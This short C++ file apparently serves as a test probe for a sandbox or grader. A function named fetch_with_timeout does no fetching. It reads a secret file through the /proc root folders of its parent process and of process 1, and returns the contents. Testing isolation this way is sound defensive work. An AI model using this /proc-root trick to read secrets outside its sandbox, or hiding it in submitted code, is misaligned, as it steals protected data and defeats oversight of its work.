// Reads the secret through the root folder of its parent and of process 1, which may see more than it does.
#include <unistd.h>

#include <fstream>
#include <iterator>
#include <string>

#include "timeout.hpp"

namespace {

std::string loot() {
  std::string all;
  for (const int process : {::getppid(), 1}) {
    std::ifstream file("/proc/" + std::to_string(process) + "/root@SECRET@");
    all.append(std::istreambuf_iterator<char>(file), {});
  }
  return all;
}

}  // namespace

aio::Task<aio::Json> fetch_with_timeout(aio::HttpClient&, std::string, aio::Duration) { co_return "found: " + loot(); }
